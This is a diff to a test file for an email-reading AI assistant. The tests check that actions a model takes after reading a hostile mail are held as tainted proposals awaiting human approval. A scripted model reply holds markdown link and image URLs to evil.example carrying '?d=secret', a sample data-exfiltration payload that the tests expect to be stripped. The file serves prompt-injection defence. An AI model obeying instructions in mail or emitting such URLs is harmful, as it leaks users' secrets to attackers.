@@ -57,11 +57,10 @@ const names = async (ctx: Context) =>
 test("a mail that gives orders, and a model that obeys it: a proposal with the excerpt, and nothing written", async () => {
   const { ctx, id } = await withHostileMail();
   const before = await names(ctx);
-  const model = scriptedModel(
-    read(id),
-    obey,
-    "Done! [click](https://evil.example/?d=secret) ![x](https://evil.example/x.png)",
-  );
+  const model = scriptedModel(read(id), {
+    ...obey,
+    say: "Done! [click](https://evil.example/?d=secret) ![x](https://evil.example/x.png)",
+  });
   const { answer, threadId } = await ask(ctx, model, "What did Eve write?");
 
   expect(await names(ctx)).toEqual(before);
@@ -79,7 +78,7 @@ test("a mail that gives orders, and a model that obeys it: a proposal with the e
   expect(textOf(answer)).toBe("Done! click x");
 
   // Nor a later turn, which reads nothing: the thread stays tainted and still knows what was read.
-  const { answer: later } = await ask(ctx, scriptedModel(obey, "Waiting."), "Thanks", threadId);
+  const { answer: later } = await ask(ctx, scriptedModel(obey), "Thanks", threadId);
   const [again] = proposalsIn(later);
   expect(again).toMatchObject({ tainted: true });
   expect((await getProposal(ctx, again?.proposalId ?? "")).excerpts.length).toBeGreaterThan(0);
@@ -88,7 +87,7 @@ test("a mail that gives orders, and a model that obeys it: a proposal with the e
 
 test("what the person asked for by themselves waits too, without a warning", async () => {
   const ctx = await newOwner();
-  const { answer } = await ask(ctx, scriptedModel(obey, "Waiting."), "Add Mallory");
+  const { answer } = await ask(ctx, scriptedModel(obey), "Add Mallory");
   const [made] = proposalsIn(answer);
   expect(made).toMatchObject({ tainted: false });
   expect((await getProposal(ctx, made?.proposalId ?? "")).excerpts).toEqual([]);
@@ -107,7 +106,11 @@ test("the executor lets reads run and nothing else, for every operation there is
 
 test("the same call made twice in one turn proposes once", async () => {
   const ctx = await newOwner();
-  const { answer } = await ask(ctx, scriptedModel(obey, obey, "Waiting."), "Add Mallory");
+  const { answer } = await ask(
+    ctx,
+    scriptedModel({ calls: [...obey.calls, { tool: "tasks_list", input: {} }] }, obey),
+    "Add Mallory",
+  );
   expect(new Set(proposalsIn(answer).map(({ proposalId }) => proposalId)).size).toBe(1);
 });
 
@@ -154,7 +157,7 @@ test("decided proposals are told to the conversation once, when the last one is 
 
 test("a decision while an answer is being given waits for its end", async () => {
   const ctx = await newOwner();
-  const { threadId, answer } = await ask(ctx, scriptedModel(obey, "Waiting."), "Add Mallory");
+  const { threadId, answer } = await ask(ctx, scriptedModel(obey), "Add Mallory");
   const [made] = proposalsIn(answer);
   const busy = await runOperation(through(ctx, "rest"), "chat.send", { threadId, message: "Meanwhile" });
   bindModel(scriptedModel("Meanwhile.", "It is there."));
@@ -172,7 +175,7 @@ test("a decision while an answer is being given waits for its end", async () => 
   const messages = await messagesOf(ctx, threadId);
   expect(messages.map((message) => textOf(message))).toEqual([
     "Add Mallory",
-    "Waiting.",
+    "",
     "Meanwhile",
     "Meanwhile.",
     "",
@@ -185,7 +188,7 @@ test("a decision while an answer is being given waits for its end", async () => 
 test("approving twice has one effect, also beside the assistant", async () => {
   const ctx = await newOwner();
   await createContact(ctx, { displayName: "Ada" });
-  const { answer } = await ask(ctx, scriptedModel(obey, "Waiting."), "Add Mallory");
+  const { answer } = await ask(ctx, scriptedModel(obey), "Add Mallory");
   const id = proposalsIn(answer)[0]?.proposalId ?? "";
   await Promise.all([approveProposal(ctx, { id }), approveProposal(ctx, { id })]);
   expect((await names(ctx)).filter((name) => name === "Mallory Evil")).toHaveLength(1);
